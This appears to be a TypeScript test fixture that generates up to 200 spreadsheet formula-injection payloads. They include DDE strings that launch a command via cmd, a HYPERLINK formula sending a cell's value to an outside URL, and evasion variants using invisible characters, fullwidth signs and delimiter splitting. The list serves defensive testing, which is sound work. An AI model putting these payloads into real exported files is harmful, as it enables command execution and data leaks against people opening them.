/** Two hundred texts that somebody might put into a document so that a spreadsheet runs them. */
const PAYLOADS = [
  '=1+1',
  '=SUM(1,2)',
  '=HYPERLINK("http://example.org?x="&A1,"press")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML("http://example.org","//a")',
  '=WEBSERVICE("http://example.org")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '+SUM(1,2)',
  '-1-1',
  "-2+3+cmd|' /C calc'!A0",
  '-SUM(1,2)',
  '@SUM(1,2)',
  "@cmd|' /C calc'!A0",
  '=-1',
  '=+1',
  '=@SUM(1)',
  '==1',
  '=A1',
  '={1,2}',
];

const BEFORE = ['', ' ', '\t', '\r', '\n', '\u00a0', '\u200b', '\ufeff', '"', "'"];
const WIDE: readonly (readonly [string, string])[] = [
  ['=', '＝'],
  ['+', '＋'],
  ['-', '－'],
  ['@', '＠'],
];

const widened = (text: string): string => WIDE.reduce((t, [narrow, wide]) => t.replaceAll(narrow, wide), text);
/** Further ways in: typographic quotes, several things before, and places where another delimiter would split the cell. */
const OTHERS = [
  ...['“', '‘', '«', '`', ' "', '\t\r\n', '\u2060\u3000', '\u0000'].flatMap((b) => [
    `${b}=1+1`,
    `${b}@SUM(1)`,
    `${b}-1-1`,
  ]),
  ...[';', '\t', '|', '\n', '\r\n', ';"', '; ', '\n "', '|\t', '\r'].flatMap((b) => [
    `said${b}=1+1${b}so`,
    `said${b}=HYPERLINK("http://example.org")${b}`,
    `said${b}@SUM(1,2)`,
    `said${b}-1+SUM(1)`,
    `said${b}+cmd|' /C calc'!A0`,
  ]),
  ...PAYLOADS.slice(0, 14).map(widened),
  ...PAYLOADS.slice(0, 13).map((p) => `${p};${p}\n${p}`),
];

const crossed = PAYLOADS.flatMap((payload, i) => BEFORE.filter((_b, j) => (i + j) % 2 === 0).map((b) => b + payload));

export const HOSTILE: readonly string[] = [...new Set([...PAYLOADS, ...crossed, ...OTHERS])].slice(0, 200);
